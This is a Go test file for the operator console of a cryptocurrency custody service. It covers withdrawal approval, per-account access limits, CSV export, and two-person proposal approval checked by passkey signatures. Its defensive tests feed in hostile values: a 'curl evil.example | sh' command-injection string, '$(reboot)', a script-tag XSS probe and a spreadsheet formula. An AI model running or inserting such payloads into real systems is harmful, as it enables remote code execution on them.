package console

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/bursar/bursar"
	"github.com/bursar/bursar/account"
	"github.com/bursar/bursar/bursartest"
	"github.com/bursar/bursar/chain"
	"github.com/bursar/bursar/chain/sim"
	"github.com/bursar/bursar/netpolicy"
	"github.com/bursar/bursar/operator"
	"github.com/bursar/bursar/operator/proposal"
	"github.com/bursar/bursar/store"
	"github.com/bursar/bursar/store/storetest"
	"github.com/bursar/bursar/webhook"
	"github.com/bursar/bursar/withdrawal"
)

// office is a console with the acts of a service, whose account has withdrawals that wait for approval.
type office struct {
	*testing.T
	*bursartest.OneChain
	console *Console
	people  map[bursar.ID]operator.Person
	here    operator.Person // who sends requests
}

// everyRole is of somebody who may do everything.
var everyRole = operator.Roles()

func newOffice(t *testing.T, db *store.DB) *office {
	o := &office{T: t, people: map[bursar.ID]operator.Person{},
		OneChain: bursartest.NewOneChain(t, db, sim.Config{ID: bursar.Bitcoin, Family: "bitcoin", Confirmations: 2})}
	o.Currency.ApprovalAbove = bursar.Units(1000)
	o.Reconfigure()
	for i, name := range []string{"Ann", "Bob"} {
		id := bursar.ID{0: 7, 15: byte(i)}
		o.people[id] = operator.Person{ID: id, Name: name, Roles: everyRole}
	}
	o.here = o.people[bursar.ID{0: 7}]
	o.console = opened(t, db)
	o.console.Registry = o.Registry
	o.console.who = func(*http.Request) (operator.Person, operator.Session, error) {
		return o.here, operator.Session{ID: bursar.ID{8}}, nil
	}
	acts := Acts{
		Withdrawals:    o.Withdrawals,
		Accounts:       account.NewService(db, o.IDs),
		TestDeliveries: &webhook.TestDeliveries{DB: db, IDs: o.IDs, Receivers: netpolicy.Receivers{}},
		Proposals: &proposal.Service{DB: db, IDs: o.IDs, Log: o.console.Log,
			Kinds: map[string]proposal.Kind{"resume.all": {Propose: "chain.resume", Approve: "chain.resume",
				Check: func(_ context.Context, p store.Proposal) (store.Proposal, error) {
					p.Object = "all"
					return p, nil
				},
				Execute: func(ctx context.Context, p store.Proposal, done proposal.Done) error {
					return db.Do(ctx, func(tx *store.Tx) error {
						if _, err := tx.Halts().Lift(ctx, store.HaltAll, store.HaltByOperator, ""); err != nil {
							return err
						}
						return done(ctx, tx, "ended")
					})
				}}}},
	}
	o.console.Acts = acts
	Judge(acts.Proposals, o.console.People)
	o.Do(func(tx *store.Tx) error {
		for _, p := range o.people {
			var roles []string
			for _, r := range p.Roles {
				roles = append(roles, string(r))
			}
			key := keyOf(p.ID)
			err := tx.People().Insert(context.Background(), store.Person{ID: p.ID, Name: p.Name, Roles: roles,
				CreatedAt: tx.Now()})
			if err == nil {
				err = tx.People().AddPasskey(context.Background(), key.stored(p.ID))
			}
			if err != nil {
				return err
			}
		}
		return nil
	})
	return o
}

// waiting is a withdrawal that waits for approval.
func (o *office) waiting() bursar.Withdrawal {
	o.T.Helper()
	o.Credit(o.OneChain.Accounts[0], "COIN", 1_000_000)
	w, err := o.withdraw(o.OneChain.Accounts[0])
	o.Must(err)
	return w
}

func (o *office) token() string { return o.IDs.Next().String() }

// sends has the person send the form of an act, with a token of its own unless it has one.
func (o *office) sends(name string, fields ...string) *httptest.ResponseRecorder {
	o.T.Helper()
	form := url.Values{"token": {o.token()}, "reason": {"because"}, "confirm": {"yes"}}
	for i := 0; i+1 < len(fields); i += 2 {
		form.Set(fields[i], fields[i+1])
	}
	return posted(o.T, o.console, base+"/do/"+name, form.Encode())
}

func (o *office) status(id bursar.ID) (status bursar.WithdrawalStatus) {
	o.T.Helper()
	o.View(func(tx *store.Tx) error {
		found, err := tx.Withdrawals().Recorded(context.Background(), []bursar.ID{id})
		status = found[id].Status
		return err
	})
	return status
}

// acts returns what was recorded, newest first.
func (o *office) acts() (list []store.Act) {
	o.T.Helper()
	o.View(func(tx *store.Tx) (err error) {
		list, err = tx.Acts().List(context.Background(), store.ActFilter{}, store.Page{Limit: 100})
		return err
	})
	return list
}

func (o *office) answers(what string, w *httptest.ResponseRecorder, status int, texts ...string) {
	o.T.Helper()
	if w.Code != status {
		o.T.Errorf("%s: answered %d, want %d: %s", what, w.Code, status, w.Body)
	}
	for _, text := range texts {
		if !strings.Contains(w.Body.String(), text) {
			o.T.Errorf("%s: the answer lacks %q: %s", what, text, w.Body)
		}
	}
}

func eachOffice(t *testing.T, test func(o *office)) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, db *store.DB) { test(newOffice(t, db)) })
}

// A withdrawal is rejected once, however often the form is sent, and the act is recorded with it.
func TestAFormActsOnce(t *testing.T) {
	eachOffice(t, func(o *office) {
		w := o.waiting()
		token := o.token()
		for range 2 {
			o.answers("the form", o.sends("withdrawal.reject", "object", w.ID.String(), "token", token), http.StatusSeeOther)
		}
		if got := o.status(w.ID); got != bursar.WithdrawalRejected {
			o.T.Errorf("the withdrawal is %s, want rejected", got)
		}
		list := o.acts()
		if len(list) != 1 || list[0].Actor != "Ann" || list[0].Verb != "withdrawal.reject" || list[0].Reason != "because" ||
			list[0].Object != "withdrawal "+w.ID.String() || list[0].Became != "rejected" {
			o.T.Errorf("recorded are %+v, want the one act of Ann", list)
		}
		o.answers("another form", o.sends("withdrawal.reject", "object", w.ID.String()), http.StatusUnprocessableEntity,
			"Nothing was done", "the withdrawal is rejected", `value="`+w.ID.String())
	})
}

// Anybody who lacks a verb, or is held to other accounts, changes nothing, and the answer names the verb.
func TestAnActWithoutTheRight(t *testing.T) {
	eachOffice(t, func(o *office) {
		w := o.waiting()
		me := o.here
		o.here.Roles = []operator.Role{operator.Admin}
		o.answers("an admin", o.sends("withdrawal.reject", "object", w.ID.String()), http.StatusForbidden,
			"withdrawal.reject")
		o.here = me
		o.here.Accounts = []bursar.ID{o.OneChain.Accounts[1]}
		o.answers("a halt of everything", o.sends("halt", "object", "all"), http.StatusForbidden, "chain.halt")
		if got := o.status(w.ID); got != bursar.WithdrawalPendingApproval || len(o.acts()) != 0 {
			o.T.Errorf("the withdrawal is %s and recorded are %v, want nothing changed", got, o.acts())
		}
	})
}

// Anybody who is held to some accounts learns of no object of another account that it is there: it looks like an
// unknown one, whatever its state.
func TestAnActOnAnotherAccount(t *testing.T) {
	eachOffice(t, func(o *office) {
		ctx := context.Background()
		shop := o.OneChain.Accounts[0]
		waiting, rejected := o.waiting(), o.waiting()
		o.answers("a rejection", o.sends("withdrawal.reject", "object", rejected.ID.String()), http.StatusSeeOther)
		issued, err := o.console.Acts.Accounts.NewKey(ctx, account.Grant{Account: shop, Scopes: account.AllScopes()})
		o.Must(err)
		event := bursar.Event{ID: o.IDs.Next(), AccountID: shop, Kind: bursar.EventDeposit,
			Subject: o.IDs.Next(), Body: []byte("{}"), CreatedAt: o.DB.Now()}
		o.Do(func(tx *store.Tx) error { return tx.Events().Insert(ctx, event) })
		o.here.Accounts = []bursar.ID{o.OneChain.Accounts[1]}
		for _, act := range [][2]string{
			{"withdrawal.reject", waiting.ID.String()}, {"withdrawal.reject", rejected.ID.String()},
			{"withdrawal.cancel", rejected.ID.String()}, {"withdrawal.approve", rejected.ID.String()},
			{"webhook.redeliver", event.ID.String()}, {"webhook.test", shop.String()},
			{"key.revoke", issued.KeyID.String()}, {"account.freeze", shop.String()}, {"account.unfreeze", shop.String()},
		} {
			for _, object := range []string{act[1], o.token(), "x"} {
				o.answers(act[0], o.sends(act[0], "object", object), http.StatusNotFound, "there is no such thing")
			}
		}
		o.answers("an alarm", o.sends("alarm.close", "object", "1"), http.StatusForbidden, "alarm.close")
		if len(o.acts()) != 1 {
			o.T.Errorf("recorded are %v, want the rejection alone", o.acts())
		}
		o.here.Accounts = []bursar.ID{shop}
		o.answers("of their own account", o.sends("key.revoke", "object", issued.KeyID.String()), http.StatusSeeOther)
		o.answers("of their own account", o.sends("withdrawal.reject", "object", strings.ToUpper(waiting.ID.String())),
			http.StatusSeeOther)
	})
}

// The list and the page have the proposals of the person's accounts alone, however many others there are, and an
// approval or a rejection of another one says no more than that there is none.
func TestProposalsOfOtherAccounts(t *testing.T) {
	eachOffice(t, func(o *office) {
		shop, other := o.OneChain.Accounts[0], o.OneChain.Accounts[1]
		propose := func(n int, account bursar.ID) store.Proposal {
			p := store.Proposal{ID: o.IDs.Next(), Verb: "resume.all", Object: strconv.Itoa(n), AccountID: account,
				Token: o.IDs.Next(), Hash: []byte{1}, PersonID: bursar.ID{1}, CreatedAt: o.DB.Now(),
				ExpiresAt: o.DB.Now().Add(proposal.Life)}
			o.Do(func(tx *store.Tx) error { return tx.Proposals().Insert(context.Background(), p) })
			return p
		}
		own := propose(0, shop)
		theirs := propose(1, other)
		for n := range mostProposals {
			propose(n+2, other)
		}
		o.here.Accounts = []bursar.ID{shop}
		var list []proposalView
		o.Must(json.Unmarshal(got(o.T, o.console, apiBase+"/proposals").Body.Bytes(), &list))
		if len(list) != 1 || list[0].ID != own.ID.String() {
			o.T.Errorf("listed are %d proposals, want the one of the account", len(list))
		}
		at := base + "/proposals/" + theirs.ID.String()
		o.answers("the page", got(o.T, o.console, at), http.StatusNotFound)
		o.answers("an approval", posted(o.T, o.console, at+"/approve", "hash=00"), http.StatusNotFound)
		o.answers("a rejection", posted(o.T, o.console, at+"/reject", "reason=no"), http.StatusNotFound)
	})
}

// What the pages of people and of proposals show is exported, for a spreadsheet, to who may see the page.
func TestPeopleAndProposalsAreExported(t *testing.T) {
	eachOffice(t, func(o *office) {
		o.answers("the halt", o.sends("halt", "object", "all"), http.StatusSeeOther)
		o.answers("the proposal", o.sends("resume.all", "reason", "=1+1"), http.StatusSeeOther)
		for path, want := range map[string][]string{
			"/people.csv":    {"id,name,roles,", ",Ann,viewer auditor support operator approver admin,"},
			"/proposals.csv": {"id,created,verb,", ",resume.all,all,", ",'=1+1,Ann,1,pending,"},
			"/audit.csv":     {"number,at,actor,", ",Ann,", ",chain.halt,all,"},
		} {
			w := got(o.T, o.console, base+path)
			o.answers(path, w, http.StatusOK, want...)
			if kind := w.Header().Get("Content-Type"); !strings.HasPrefix(kind, "text/csv") {
				o.T.Errorf("%s is %q, want CSV", path, kind)
			}
		}
		o.answers("other statuses", got(o.T, o.console, base+"/proposals.csv?status=void"), http.StatusOK, "id,created")
		o.here.Roles = []operator.Role{operator.Viewer}
		o.answers("a viewer", got(o.T, o.console, base+"/people.csv"), http.StatusForbidden, "people.change")
	})
}

// Each act does what its command does.
func TestWhatOnePersonDoes(t *testing.T) {
	eachOffice(t, func(o *office) {
		ctx := context.Background()
		shop := o.OneChain.Accounts[0]
		w := o.waiting()
		issued, err := o.console.Acts.Accounts.NewKey(ctx, account.Grant{Account: shop, Scopes: account.AllScopes()})
		o.Must(err)
		var alarm store.Alarm
		o.Do(func(tx *store.Tx) error {
			err := tx.Alarms().Raise(ctx, store.Alarm{Chain: bursar.Bitcoin, Kind: "external_spend", Ref: "r", Message: "m"})
			if err != nil {
				return err
			}
			list, err := tx.Alarms().List(ctx, 1)
			alarm = list[0]
			return err
		})
		for _, act := range [][]string{
			{"withdrawal.cancel", "object", w.ID.String()},
			{"account.freeze", "object", shop.String()},
			{"halt", "object", "all"}, {"halt", "object", "chain:bitcoin"}, {"halt", "object", "currency:COIN"},
			{"key.revoke", "object", issued.KeyID.String()},
			{"webhook.test", "object", shop.String(), "url", "https://8.8.8.8/hook"},
			{"alarm.close", "object", strconv.FormatInt(alarm.Number, 10)},
		} {
			o.answers(act[0], o.sends(act[0], act[1:]...), http.StatusSeeOther)
		}
		if got := o.status(w.ID); got != bursar.WithdrawalCancelled {
			o.T.Errorf("the withdrawal is %s, want cancelled", got)
		}
		o.View(func(tx *store.Tx) error {
			halts, err := tx.Halts().List(ctx)
			if len(halts) != 4 || halts[0].Actor != "Ann" || halts[0].Reason != "because" {
				o.T.Errorf("halted are %v, want four scopes by Ann", halts)
			}
			open, failed := tx.Alarms().List(ctx, 10)
			if len(open) != 0 {
				o.T.Errorf("open are %v, want no alarm", open)
			}
			keys, other := tx.APIKeys().List(ctx, shop)
			if len(keys) != 1 || keys[0].RevokedAt.IsZero() {
				o.T.Errorf("the keys are %+v, want one that is revoked", keys)
			}
			return firstOf(err, failed, other)
		})
		if got := len(o.acts()); got != 8 {
			o.T.Errorf("%d acts are recorded, want 8", got)
		}
	})
}

func firstOf(errs ...error) error {
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}

// Blocks are searched again, at most so many at once; the act is recorded before, and the form that is sent again
// searches again as one act: what is known is left as it is.
func TestBlocksAreSearchedAgain(t *testing.T) {
	eachOffice(t, func(o *office) {
		var searched []string
		var failed error
		o.console.Acts.Rescan = func(_ context.Context, id bursar.ChainID, tx string, from, to uint64) (int, error) {
			searched = append(searched, fmt.Sprint(id, tx, from, to))
			return 1, failed
		}
		token := o.token()
		for range 2 {
			o.answers("a transaction", o.sends("chain.rescan", "object", "bitcoin", "tx", "aa", "token", token),
				http.StatusSeeOther)
		}
		o.answers("blocks", o.sends("chain.rescan", "object", "bitcoin", "from", "7", "to", "56"), http.StatusSeeOther)
		o.answers("one block", o.sends("chain.rescan", "object", "bitcoin", "from", "7"), http.StatusSeeOther)
		want := []string{"bitcoinaa0 0", "bitcoinaa0 0", "bitcoin7 56", "bitcoin7 7"}
		if !slices.Equal(searched, want) {
			t := o.acts()
			o.T.Errorf("searched are %q, want %q; recorded are %v", searched, want, t)
		}
		if list := o.acts(); len(list) != 3 || list[2].Became != "transaction aa" || list[1].Became != "blocks 7 to 56" ||
			list[0].Verb != "chain.rescan" || list[0].Object != "chain bitcoin" {
			o.T.Errorf("recorded are %+v, want three acts with what was searched", list)
		}
		for what, fields := range map[string][]string{
			"another chain": {"object", "nowhere", "from", "7"}, "nothing": {"object", "bitcoin"},
			"both": {"object", "bitcoin", "from", "7", "tx", "aa"}, "too many": {"object", "bitcoin", "from", "7", "to", "57"},
			"back": {"object", "bitcoin", "from", "7", "to", "6"}, "a word": {"object", "bitcoin", "from", "x"},
			"no hash": {"object", "bitcoin", "tx", "a b"}, "below zero": {"object", "bitcoin", "from", "-1"},
		} {
			o.answers(what, o.sends("chain.rescan", fields...), http.StatusUnprocessableEntity, "Nothing was done", "<form")
		}
		failed = errors.New("http://user:secret@node answers nothing")
		w := o.sends("chain.rescan", "object", "bitcoin", "from", "7")
		o.answers("a node that fails", w, http.StatusUnprocessableEntity, "after 1 blocks")
		if strings.Contains(w.Body.String(), "secret") {
			o.T.Errorf("the answer is %s, want no address of a node in it", w.Body)
		}
		failed = fmt.Errorf("find: %w", chain.ErrNoBlock)
		o.answers("no such block", o.sends("chain.rescan", "object", "bitcoin", "from", "7"),
			http.StatusUnprocessableEntity, "no such block")
		o.here.Roles = []operator.Role{operator.Support}
		o.answers("support", o.sends("chain.rescan", "object", "bitcoin", "from", "7"), http.StatusForbidden,
			"chain.rescan")
	})
}

// The document names every act, and the command of each that one person does: its commands are checked to exist.
func TestEveryActIsDocumented(t *testing.T) {
	t.Parallel()
	text, err := os.ReadFile("../docs/operations/proposals.md")
	if err != nil {
		t.Fatal(err)
	}
	doc := strings.Join(strings.Fields(string(text)), " ")
	for _, d := range newOffice(t, storetest.Open(t, storetest.Reused(t))).console.deeds() {
		if !strings.Contains(doc, "`"+d.name+"`") || !strings.Contains(doc, "`"+string(d.verb)+"`") ||
			!strings.Contains(doc, d.twin) {
			t.Errorf("the document lacks `%s`, its right `%s` or its command %q, want all", d.name, d.verb, d.twin)
		}
	}
}

// What is wrong with a form stands beside it, and nothing was done.
func TestAFormThatIsRefused(t *testing.T) {
	eachOffice(t, func(o *office) {
		w := o.waiting().ID.String()
		for what, c := range map[string]struct {
			name   string
			fields []string
			want   string
		}{
			"no reason":    {"withdrawal.reject", []string{"object", w, "reason", ""}, "Reason is missing"},
			"no confirm":   {"withdrawal.reject", []string{"object", w, "confirm", ""}, "cannot be undone"},
			"no token":     {"withdrawal.reject", []string{"object", w, "token", ""}, "token is missing"},
			"other scope":  {"halt", []string{"object", "chain:nowhere"}, "the scope is"},
			"another word": {"charge.resolve", []string{"object", w, "charge", w, "resolution", "steal"}, "cannot be this"},
			"too long":     {"account.freeze", []string{"object", w, "reason", strings.Repeat("x", 2001)}, "cannot be this"},
		} {
			o.answers(what, o.sends(c.name, c.fields...), http.StatusUnprocessableEntity, "Nothing was done", c.want, "<form")
		}
		for _, name := range []string{"withdrawal.cancel", "key.revoke", "webhook.redeliver", "alarm.close",
			"account.freeze"} {
			o.answers(name, o.sends(name, "object", bursar.ID{5}.String()), http.StatusNotFound, "Nothing was done")
			o.answers(name, o.sends(name, "object", "<b>"), http.StatusNotFound, "&lt;b&gt;")
		}
		if len(o.acts()) != 0 {
			o.T.Errorf("recorded are %v, want nothing", o.acts())
		}
	})
}

// Every form can be read by who may do the act, says what will happen, and changes nothing.
func TestEveryFormSaysWhatWillHappen(t *testing.T) {
	t.Parallel()
	o := newOffice(t, storetest.Open(t, storetest.Reused(t)))
	for _, d := range o.console.deeds() {
		w := got(t, o.console, base+"/do/"+d.name+"?object=%22%3E%3Cscript%3E")
		o.answers(d.name, w, http.StatusOK, d.title, d.button, `name="token"`)
		if strings.Contains(w.Body.String(), "<script>") {
			t.Errorf("%s: the object is markup, want text", d.name)
		}
		if d.does == "" || len(d.verb) == 0 || d.nav == "" {
			t.Errorf("%s: it says %q and needs %q, want both and its place", d.name, d.does, d.verb)
		}
	}
	if len(o.acts()) != 0 {
		t.Errorf("recorded are %v, want nothing by reading", o.acts())
	}
}

// One proposes and another approves, over the text that was shown; who proposed is refused beside the form.
func TestAProposalIsApprovedByAnother(t *testing.T) {
	eachOffice(t, func(o *office) {
		o.answers("the halt", o.sends("halt", "object", "all"), http.StatusSeeOther)
		w := o.sends("resume.all")
		o.answers("the proposal", w, http.StatusSeeOther)
		at := w.Header().Get("Location")
		api := apiBase + strings.TrimPrefix(at, base)
		o.answers("the list", got(o.T, o.console, base+"/proposals"), http.StatusOK, at)
		var shown proposalView
		o.Must(json.Unmarshal(got(o.T, o.console, api).Body.Bytes(), &shown))
		signed := func(by operator.Person, change func(*touch)) string {
			return url.Values{"hash": {shown.Hash}, "evidence": {keyOf(by.ID).signs(shown.Challenge, change)}}.Encode()
		}
		hash := signed(o.here, nil)
		o.answers("who proposed", posted(o.T, o.console, at+"/approve", hash), http.StatusUnprocessableEntity,
			"who proposed it cannot approve it")
		o.here = o.people[bursar.ID{0: 7, 15: 1}]
		o.answers("the page", got(o.T, o.console, at), http.StatusOK, "bursar-proposal/1", "/approve", shown.Hash,
			"no signature that the signer verifies")
		for what, forged := range map[string]string{
			"no assertion": "hash=" + shown.Hash, "of another person": hash,
			"of another challenge": signed(o.here, func(t *touch) { t.challenge = strings.Repeat("A", 43) }),
			"of another site":      signed(o.here, func(t *touch) { t.origin = "https://evil.example" }),
			"of another host":      signed(o.here, func(t *touch) { t.host = "evil.example" }),
			"of another ceremony":  signed(o.here, func(t *touch) { t.kind = "webauthn.create" }),
			"not verified":         signed(o.here, func(t *touch) { t.flags = present }),
			"not touched":          signed(o.here, func(t *touch) { t.flags = verified }),
			"altered":              signed(o.here, func(t *touch) { t.spoilt = true }),
		} {
			o.answers(what, posted(o.T, o.console, at+"/approve", forged), http.StatusUnprocessableEntity, "does not count")
		}
		hash = signed(o.here, nil)
		o.answers("another text", posted(o.T, o.console, at+"/approve", "hash=00"), http.StatusUnprocessableEntity,
			"not the one that was shown")
		o.answers("the other", posted(o.T, o.console, at+"/approve", hash), http.StatusSeeOther)
		o.answers("afterwards", got(o.T, o.console, at), http.StatusOK, "executed", "ended")
		o.answers("a late rejection", posted(o.T, o.console, at+"/reject", "reason=no"), http.StatusUnprocessableEntity,
			"has ended")
		list := o.acts()
		if len(list) != 4 || list[0].Actor != "bursar" || list[1].Actor != "Bob" || list[2].Actor != "Ann" ||
			list[1].Became != "approved" || list[0].Became != "executed" || list[1].Session.IsZero() {
			o.T.Errorf("recorded are %+v, want the halt, the proposal, the approval and the end", list)
		}
		o.View(func(tx *store.Tx) error {
			halts, err := tx.Halts().List(context.Background())
			if len(halts) != 0 {
				o.T.Errorf("halted are %v, want nothing", halts)
			}
			return err
		})
	})
}

func (o *office) withdraw(from bursar.ID) (bursar.Withdrawal, error) {
	return o.Withdrawals.Request(context.Background(), withdrawal.Request{Account: from, Currency: "COIN", Amount: "0.001",
		Address: o.Chain.Named("buyer")})
}

// A link to a form names the object: what a shell would run never stands in the command that is there to be copied.
func TestALinkPutsNothingIntoACommand(t *testing.T) {
	t.Parallel()
	o := newOffice(t, storetest.Open(t, storetest.Reused(t)))
	for object, want := range map[string]bool{o.token(): true, "x; curl evil.example | sh": false, "$(reboot)": false} {
		r := httptest.NewRequest(http.MethodGet, base+"/do/withdrawal.cancel?object="+url.QueryEscape(object), nil)
		w := httptest.NewRecorder()
		o.console.ServeHTTP(w, r)
		if got := strings.Contains(w.Body.String(), "bursar withdrawal cancel"); w.Code != http.StatusOK || got != want {
			t.Errorf("%s: answered %d with the command %v, want %v", object, w.Code, got, want)
		}
	}
}
